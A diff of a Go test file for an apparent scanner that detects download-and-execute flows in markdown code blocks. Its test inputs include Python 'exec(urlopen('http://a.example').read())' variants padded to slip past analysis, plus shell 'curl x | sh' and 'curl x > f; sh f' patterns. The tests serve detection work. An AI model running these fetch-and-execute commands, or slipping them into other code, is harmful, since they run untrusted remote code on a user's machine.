@@ -148,16 +148,43 @@ func TestFlowsFarAway(t *testing.T) {
 	for i := range 60 {
 		doubled += fmt.Sprintf("v%d=$v%d$v%d\n", i+1, i, i)
 	}
+	python := func(text string) string { return "```python\n" + text + "\n```\n" }
 	for name, text := range map[string]string{
-		"pipes":   "`curl x" + strings.Repeat(" | cat", 100) + " | sh`\n",
-		"doubles": "```sh\n" + doubled + "eval \"$v60\"\n```\n",
-		"writers": "```sh\n" + strings.Repeat("echo a > x\n", 20) + "curl x > x\n```\n\n`sh x`\n",
+		"names":       python("x = urlopen('http://a.example').read()\nexec(" + strings.Repeat("a_, ", 200) + "x)"),
+		"assignments": python(strings.Repeat("y = 1\n", 5000) + "x = urlopen('http://a.example').read()\nexec(x)"),
+		"a comment":   python("exec('" + strings.Repeat("#", 5000) + "' + urlopen('http://a.example').read().decode())"),
+		"a value":     python("x = ('" + strings.Repeat("a", 5000) + "' + urlopen('http://a.example').read().decode())\nexec(x)"),
+		"pipes":       "`curl x" + strings.Repeat(" | cat", 100) + " | sh`\n",
+		"doubles":     "```sh\n" + doubled + "eval \"$v60\"\n```\n",
+		"writers":     "```sh\n" + strings.Repeat("echo a > x\n", 20) + "curl x > x\n```\n\n`sh x`\n",
 	} {
 		s := searched(text)
-		found := slices.ContainsFunc(s.Body.Flows, func(f Flow) bool { return slices.Contains(f.From, "curl") })
+		found := slices.ContainsFunc(s.Body.Flows, func(f Flow) bool { return slices.Contains(f.From, "curl") || slices.Contains(f.From, "urlopen") })
 		if !found || !s.Coverage.Complete {
 			t.Errorf("%s: %+v, %+v", name, s.Body.Flows, s.Coverage)
 		}
+	}
+}
+
+// TestFlowSteps tells a step once, however often the file is written.
+func TestFlowSteps(t *testing.T) {
+	s := searched("```sh\n" + strings.Repeat("curl x > f\nsh f\n", 100) + "```\n")
+	for _, f := range s.Body.Flows {
+		if len(f.Steps) != 1 || len(f.From) != 1 {
+			t.Fatalf("%d steps, %d programs", len(f.Steps), len(f.From))
+		}
+	}
+	var text strings.Builder
+	for i := range 150 {
+		fmt.Fprintf(&text, "curl x%d > f\nsh f\n", i)
+	}
+	s = searched("```sh\n" + text.String() + "```\n")
+	steps := 0
+	for _, f := range s.Body.Flows {
+		steps += len(f.Steps)
+	}
+	if most := maxSteps + fewSteps*maxFlows; steps > most || s.Coverage.Complete || len(s.Body.Flows) < 150 {
+		t.Errorf("%d steps in %d flows, %+v; wanted no more than %d, and it said that there are more", steps, len(s.Body.Flows), s.Coverage, most)
 	}
 }
 
@@ -172,6 +199,7 @@ func TestCodeBeyondBounds(t *testing.T) {
 		"many holders": "```sh\n" + strings.Repeat("v=$(a);v=$v$(a)\n", maxTrace) + "v=$v$(curl x); eval \"$v\"\n```\n",
 		"many writers": "```sh\n" + strings.Repeat("echo a > x\n", maxMade) + "curl x > x\n```\n\n`sh x`\n",
 		"many runs":    "```sh\n" + strings.Repeat("sh y\n", maxTrail) + "curl x > x\n```\n\n`sh x`\n",
+		"long values":  "```python\n" + strings.Repeat("a = (\n", maxExamined/maxArguments+1) + strings.Repeat("b\n", maxArguments) + "x=urlopen(u)\nexec(y)\n```\n",
 		"many words":   "`sh -c" + strings.Repeat(" -x", maxArgs) + " 'curl x' | sh`\n",
 	} {
 		s := searched(text)
